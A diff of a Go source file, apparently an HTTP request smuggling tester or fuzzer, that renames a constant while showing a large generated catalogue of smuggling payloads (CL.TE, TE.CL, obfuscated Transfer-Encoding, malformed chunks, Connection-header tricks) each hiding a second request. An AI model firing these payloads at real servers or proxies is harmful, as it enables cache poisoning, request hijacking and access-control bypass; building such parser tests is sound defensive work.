@@ -5,9 +5,9 @@ import (
 	"strings"
 )
 
-// inner is the request that a smuggler hides. If two ends disagree about
+// hidden is the request that a smuggler hides. If two ends disagree about
 // where the request around it ends, it shows at the origin.
-const inner = "GET http://HOST/smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n"
+const hidden = "GET http://HOST/smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n"
 
 // after is an honest request behind the payload, of which a smuggler would
 // take the response or prefix the head.
@@ -25,46 +25,46 @@ type payload struct{ name, raw string }
 func payloads(host string) []payload {
 	var all []payload
 	here := func(s string) string { return strings.ReplaceAll(s, "HOST", host) }
-	inner := here(inner)
+	hidden := here(hidden)
 	add := func(name, raw string) { all = append(all, payload{name, here(raw + after)}) }
 	post := func(fields, body string) string {
 		return "POST http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n" + fields + "\r\n" + body
 	}
-	length := fmt.Sprintf("Content-Length: %d\r\n", len("0\r\n\r\n"+inner))
+	length := fmt.Sprintf("Content-Length: %d\r\n", len("0\r\n\r\n"+hidden))
 
 	add("control: sized", post("Content-Length: 5\r\n", "hello"))
 	add("control: chunked", post("Transfer-Encoding: chunked\r\n", "5\r\nhello\r\n0\r\n\r\n"))
 	add("control: chunked with trailer", post("Transfer-Encoding: chunked\r\nTrailer: X-T\r\n", "5\r\nhello\r\n0\r\nX-T: a\r\n\r\n"))
 	add("control: no body", post("Content-Length: 0\r\n", ""))
-	add("control: looks like a request", post(fmt.Sprintf("Content-Length: %d\r\n", len(inner)), inner))
+	add("control: looks like a request", post(fmt.Sprintf("Content-Length: %d\r\n", len(hidden)), hidden))
 
 	// Two lengths at once, and every known way to hide one of them.
 	for _, te := range transferEncodings {
-		add("CL.TE "+te, post(length+te+"\r\n", "0\r\n\r\n"+inner))
-		add("TE.CL "+te, post("Content-Length: 4\r\n"+te+"\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(inner), inner)))
-		add("TE alone "+te, post(te+"\r\n", "0\r\n\r\n"+inner))
-		add("TE.TE "+te, post("Transfer-Encoding: chunked\r\n"+te+"\r\n"+length, "0\r\n\r\n"+inner))
+		add("CL.TE "+te, post(length+te+"\r\n", "0\r\n\r\n"+hidden))
+		add("TE.CL "+te, post("Content-Length: 4\r\n"+te+"\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(hidden), hidden)))
+		add("TE alone "+te, post(te+"\r\n", "0\r\n\r\n"+hidden))
+		add("TE.TE "+te, post("Transfer-Encoding: chunked\r\n"+te+"\r\n"+length, "0\r\n\r\n"+hidden))
 	}
 	for _, cl := range contentLengths {
-		add("length "+cl, post(cl+"\r\n", "0\r\n\r\n"+inner))
-		add("length twice "+cl, post(length+cl+"\r\n", "0\r\n\r\n"+inner))
-		add("GET with "+cl, "GET http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+cl+"\r\n\r\n"+inner)
-		add("HEAD with "+cl, "HEAD http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+cl+"\r\n\r\n"+inner)
+		add("length "+cl, post(cl+"\r\n", "0\r\n\r\n"+hidden))
+		add("length twice "+cl, post(length+cl+"\r\n", "0\r\n\r\n"+hidden))
+		add("GET with "+cl, "GET http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+cl+"\r\n\r\n"+hidden)
+		add("HEAD with "+cl, "HEAD http://HOST/outer HTTP/1.1\r\nHost: HOST\r\n"+cl+"\r\n\r\n"+hidden)
 	}
 	for _, chunk := range chunks {
 		add("chunk "+chunk, post("Transfer-Encoding: chunked\r\n", chunk))
 	}
 	// What Connection names is removed on the way, the framing too if one believes it.
 	for _, name := range []string{"Content-Length", "Transfer-Encoding", "Host", "close, Content-Length", "keep-alive, Transfer-Encoding"} {
-		add("Connection sized "+name, post("Connection: "+name+"\r\n"+length, "0\r\n\r\n"+inner))
-		add("Connection chunked "+name, post("Connection: "+name+"\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"+inner))
+		add("Connection sized "+name, post("Connection: "+name+"\r\n"+length, "0\r\n\r\n"+hidden))
+		add("Connection chunked "+name, post("Connection: "+name+"\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"+hidden))
 	}
 	for _, line := range requestLines {
-		add("line "+line, line+"\r\nHost: HOST\r\n"+length+"\r\n0\r\n\r\n"+inner)
+		add("line "+line, line+"\r\nHost: HOST\r\n"+length+"\r\n0\r\n\r\n"+hidden)
 	}
 	for _, field := range heads {
-		add("head "+field, post(field+length, "0\r\n\r\n"+inner))
-		add("head chunked "+field, post(field+"Transfer-Encoding: chunked\r\n", "0\r\n\r\n"+inner))
+		add("head "+field, post(field+length, "0\r\n\r\n"+hidden))
+		add("head chunked "+field, post(field+"Transfer-Encoding: chunked\r\n", "0\r\n\r\n"+hidden))
 	}
 	return all
 }
@@ -98,18 +98,18 @@ var contentLengths = []string{
 
 // Sizes, extensions and ends of chunks.
 var chunks = []string{
-	"0\r\n\r\n" + inner, "00000000000000000\r\n\r\n" + inner, "-0\r\n\r\n" + inner, "+0\r\n\r\n" + inner, "0x0\r\n\r\n" + inner, " 0\r\n\r\n" + inner,
-	"0 \r\n\r\n" + inner, "0\t\r\n\r\n" + inner, "\r\n0\r\n\r\n" + inner, "0\n\r\n" + inner, "0\r\n\n" + inner, "0\n\n" + inner, "0\r\r\n\r\n" + inner,
-	"0;\r\n\r\n" + inner, "0;a=b\r\n\r\n" + inner, "0;a=\"b\"\r\n\r\n" + inner, "0;a=\"\r\n\r\n" + inner, "0;a\nb\r\n\r\n" + inner, "0;a\rb\r\n\r\n" + inner,
-	"0;\n" + inner + "\r\n\r\n", "2;\nxx\r\n0\r\n\r\n" + inner, "2;a\rxx\r\n0\r\n\r\n" + inner, "2;\nxx\r\n" + "4c\r\n0\r\n\r\n" + inner + "\r\n0\r\n\r\n",
-	"5\r\nhello0\r\n\r\n" + inner, "5\r\nhelloXX0\r\n\r\n" + inner, "5\r\nhello\n0\r\n\r\n" + inner, "5\r\nhello\r0\r\n\r\n" + inner, "5\nhello\r\n0\r\n\r\n" + inner,
-	"5\rhello\r\n0\r\n\r\n" + inner, "0x5\r\nhello\r\n0\r\n\r\n" + inner, "5_\r\nhello\r\n0\r\n\r\n" + inner, "5g\r\nhello\r\n0\r\n\r\n" + inner,
-	"10000000000000005\r\nhello\r\n0\r\n\r\n" + inner, "ffffffffffffffff\r\nhello\r\n0\r\n\r\n" + inner, "8000000000000000\r\nhello\r\n0\r\n\r\n" + inner,
-	"100000005\r\nhello\r\n0\r\n\r\n" + inner, "\r\n", "5\r\nhel", "5\r\nhello\r\n", "5\r\nhello\r\n0\r\n", "5\r\nhello\r\n0", "5",
-	"0\r\nContent-Length: 5\r\n\r\n" + inner, "0\r\nTransfer-Encoding: chunked\r\n\r\n" + inner, "0\r\nHost: other\r\n\r\n" + inner, "0\r\nX\r\n\r\n" + inner,
-	"0\r\n X: y\r\n\r\n" + inner, "0\r\nX: y\n\r\n" + inner, "0\r\nX: y\n\n" + inner, "0\r\n" + inner, "0\r\n: y\r\n\r\n" + inner, "0\r\nX : y\r\n\r\n" + inner,
-	"5 ;a\r\nhello\r\n0\r\n\r\n" + inner, "5\x00\r\nhello\r\n0\r\n\r\n" + inner, "5\x0b\r\nhello\r\n0\r\n\r\n" + inner, "5;a=b;c=\"d\\\"e\"\r\nhello\r\n0\r\n\r\n" + inner,
-	"5;" + strings.Repeat("a", 70000) + "\r\nhello\r\n0\r\n\r\n" + inner, "0\r\n\rX\n" + inner, "05\r\nhello\r\n0\r\n\r\n" + inner,
+	"0\r\n\r\n" + hidden, "00000000000000000\r\n\r\n" + hidden, "-0\r\n\r\n" + hidden, "+0\r\n\r\n" + hidden, "0x0\r\n\r\n" + hidden, " 0\r\n\r\n" + hidden,
+	"0 \r\n\r\n" + hidden, "0\t\r\n\r\n" + hidden, "\r\n0\r\n\r\n" + hidden, "0\n\r\n" + hidden, "0\r\n\n" + hidden, "0\n\n" + hidden, "0\r\r\n\r\n" + hidden,
+	"0;\r\n\r\n" + hidden, "0;a=b\r\n\r\n" + hidden, "0;a=\"b\"\r\n\r\n" + hidden, "0;a=\"\r\n\r\n" + hidden, "0;a\nb\r\n\r\n" + hidden, "0;a\rb\r\n\r\n" + hidden,
+	"0;\n" + hidden + "\r\n\r\n", "2;\nxx\r\n0\r\n\r\n" + hidden, "2;a\rxx\r\n0\r\n\r\n" + hidden, "2;\nxx\r\n" + "4c\r\n0\r\n\r\n" + hidden + "\r\n0\r\n\r\n",
+	"5\r\nhello0\r\n\r\n" + hidden, "5\r\nhelloXX0\r\n\r\n" + hidden, "5\r\nhello\n0\r\n\r\n" + hidden, "5\r\nhello\r0\r\n\r\n" + hidden, "5\nhello\r\n0\r\n\r\n" + hidden,
+	"5\rhello\r\n0\r\n\r\n" + hidden, "0x5\r\nhello\r\n0\r\n\r\n" + hidden, "5_\r\nhello\r\n0\r\n\r\n" + hidden, "5g\r\nhello\r\n0\r\n\r\n" + hidden,
+	"10000000000000005\r\nhello\r\n0\r\n\r\n" + hidden, "ffffffffffffffff\r\nhello\r\n0\r\n\r\n" + hidden, "8000000000000000\r\nhello\r\n0\r\n\r\n" + hidden,
+	"100000005\r\nhello\r\n0\r\n\r\n" + hidden, "\r\n", "5\r\nhel", "5\r\nhello\r\n", "5\r\nhello\r\n0\r\n", "5\r\nhello\r\n0", "5",
+	"0\r\nContent-Length: 5\r\n\r\n" + hidden, "0\r\nTransfer-Encoding: chunked\r\n\r\n" + hidden, "0\r\nHost: other\r\n\r\n" + hidden, "0\r\nX\r\n\r\n" + hidden,
+	"0\r\n X: y\r\n\r\n" + hidden, "0\r\nX: y\n\r\n" + hidden, "0\r\nX: y\n\n" + hidden, "0\r\n" + hidden, "0\r\n: y\r\n\r\n" + hidden, "0\r\nX : y\r\n\r\n" + hidden,
+	"5 ;a\r\nhello\r\n0\r\n\r\n" + hidden, "5\x00\r\nhello\r\n0\r\n\r\n" + hidden, "5\x0b\r\nhello\r\n0\r\n\r\n" + hidden, "5;a=b;c=\"d\\\"e\"\r\nhello\r\n0\r\n\r\n" + hidden,
+	"5;" + strings.Repeat("a", 70000) + "\r\nhello\r\n0\r\n\r\n" + hidden, "0\r\n\rX\n" + hidden, "05\r\nhello\r\n0\r\n\r\n" + hidden,
 }
 
 var requestLines = []string{
